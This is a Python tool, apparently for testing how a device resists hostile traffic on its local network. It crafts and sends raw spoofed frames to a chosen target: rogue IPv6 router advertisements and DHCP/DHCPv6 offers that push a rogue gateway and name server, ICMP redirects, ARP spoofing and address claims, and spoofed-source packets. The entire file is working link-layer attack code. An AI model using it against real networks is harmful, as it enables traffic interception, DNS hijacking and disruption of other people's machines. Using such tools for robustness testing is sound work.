"""Does what a hostile host does to a machine at the other end of a link, with frames of its own making.

    hostile-host.py INTERFACE DEVICE-MAC DEVICE-IPV4 DEVICE-IPV6 WHAT

WHAT is one of router-advertisement, ipv6-redirect, ipv4-redirect, gratuitous-arp, arp-claim, arp-other, spoofed-source,
dhcp-offer, dhcpv6-reply.
"""
import socket
import struct
import sys

interface, device_mac, device4, device6, what = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((interface, 0))
own_mac = link.getsockname()[4]
to_device = bytes.fromhex(device_mac.replace(':', ''))
everyone = b'\xff' * 6

ip4 = socket.inet_aton


def ip6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def checksum(data):
    data += b'\0' * (len(data) % 2)
    value = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return struct.pack('!H', ~value & 0xFFFF)


def frame(target, kind, data):
    # No frame is shorter (IEEE 802.3, 4.2.3.3), and Linux refuses some that are.
    link.send((target + own_mac + struct.pack('!H', kind) + data).ljust(60, b'\0'))


def icmpv6(source, target, mac, body):
    pseudo = ip6(source) + ip6(target) + struct.pack('!II', len(body), 58)
    body = body[:2] + checksum(pseudo + body) + body[4:]
    header = struct.pack('!IHBB', 6 << 28, len(body), 58, 255) + ip6(source) + ip6(target)
    frame(mac, 0x86DD, header + body)


def ipv4(source, target, protocol, body):
    header = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0) + ip4(source) + ip4(target)
    frame(to_device, 0x0800, header[:10] + checksum(header) + header[12:] + body)


def arp(operation, sender, target):
    head = struct.pack('!HHBBH', 1, 0x0800, 6, 4, operation)
    mac = everyone if operation == 1 else to_device
    frame(mac, 0x0806, head + own_mac + ip4(sender) + b'\0' * 6 + ip4(target))


# The interface identifier of the host, as the kernel makes it of its address (RFC 4291, appendix A).
eui = bytes([own_mac[0] ^ 2]) + own_mac[1:3] + b'\xff\xfe' + own_mac[3:]
own6 = socket.inet_ntop(socket.AF_INET6, ip6('fe80::')[:8] + eui)
near = device4.rsplit('.', 1)[0]


def router_advertisement():
    prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xC0, 3600, 3600, 0) + ip6('2001:db8:bad::')
    dns = struct.pack('!BBHI', 25, 3, 0, 3600) + ip6('2001:db8:bad::53')
    body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + dns
    icmpv6(own6, 'ff02::1', b'\x33\x33\0\0\0\x01', body)


def ipv6_redirect():
    body = struct.pack('!BBHI', 137, 0, 0, 0) + ip6(own6) + ip6('2001:db8:bad::1')
    icmpv6(own6, device6, to_device, body)


def ipv4_redirect():
    inner = struct.pack('!BBHHHBBH', 0x45, 0, 28, 1, 0, 64, 17, 0) + ip4(device4) + ip4('198.51.100.1') + b'\0' * 8
    body = struct.pack('!BBH', 5, 1, 0) + ip4(f'{near}.66') + inner
    ipv4(f'{near}.2', device4, 1, body[:2] + checksum(body) + body[4:])


def spoofed_source():
    body = struct.pack('!HHHHI', 40000, int(80), 12, 0, 0x5F00FED)
    for source in ('198.51.100.9', '10.99.0.1', '127.0.0.1', device4):
        ipv4(source, device4, 17, body)


def udp4(source, source_port, target, target_port, data, mac):
    body = struct.pack('!HHHH', source_port, target_port, 8 + len(data), 0) + data
    header = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0) + ip4(source) + ip4(target)
    frame(mac, 0x0800, header[:10] + checksum(header) + header[12:] + body)


def dhcp_offer():
    """An address, a router and a name server that nobody asked for (RFC 2131, 4.3.1), offered, given and taken away."""
    for kind in (2, 5, 6):
        fixed = struct.pack('!BBBBIHH', 2, 1, 6, 0, 0x5EED, 0, 0x8000) + ip4('0.0.0.0') + ip4('198.51.100.7')
        fixed += ip4('198.51.100.1') + ip4('0.0.0.0') + to_device.ljust(16, b'\0') + b'\0' * 192
        options = b'\x63\x82\x53\x63' + bytes([53, 1, kind, 54, 4]) + ip4('198.51.100.1')
        options += bytes([51, 4, 0, 0, 14, 16, 1, 4, 255, 255, 255, 0])
        options += bytes([3, 4]) + ip4('198.51.100.1') + bytes([6, 4]) + ip4('198.51.100.53') + b'\xff'
        for target, mac in ((device4, to_device), ('255.255.255.255', everyone)):
            udp4(f'{near}.2', 67, target, 68, fixed + options, mac)


def dhcpv6_reply():
    """An address that nobody asked for (RFC 8415, 18.3.10), from the host's own address."""
    address = struct.pack('!HH', 5, 24) + ip6('2001:db8:bad::7') + struct.pack('!II', 3600, 3600)
    offer = struct.pack('!HHIII', 3, 12 + len(address), 1, 0, 0) + address
    client = struct.pack('!HHHH', 1, 10, 3, 1) + to_device
    server = struct.pack('!HHHH', 2, 10, 3, 1) + own_mac
    dns = struct.pack('!HH', 23, 16) + ip6('2001:db8:bad::53')
    for kind in (2, 7):
        data = struct.pack('!I', kind << 24 | 0x5EED) + client + server + offer + dns
        body = struct.pack('!HHHH', 547, 546, 8 + len(data), 0) + data
        pseudo = ip6(own6) + ip6(device6) + struct.pack('!II', len(body), 17)
        body = body[:6] + checksum(pseudo + body) + body[8:]
        frame(to_device, 0x86DD, struct.pack('!IHBB', 6 << 28, len(body), 17, 64) + ip6(own6) + ip6(device6) + body)


acts = {
    'router-advertisement': router_advertisement,
    'ipv6-redirect': ipv6_redirect,
    'ipv4-redirect': ipv4_redirect,
    # The gateway of the device's other network, and an address next to the device's own.
    'gratuitous-arp': lambda: [arp(1, each, each) or arp(2, each, each) for each in ('10.99.0.1', f'{near}.77')],
    'arp-claim': lambda: [arp(1, device4, device4), arp(2, device4, device4)],
    # Asks for an address that the device has elsewhere.
    'arp-other': lambda: arp(1, f'{near}.2', '10.99.0.2'),
    'spoofed-source': spoofed_source,
    'dhcp-offer': dhcp_offer,
    'dhcpv6-reply': dhcpv6_reply,
}
acts[what]()
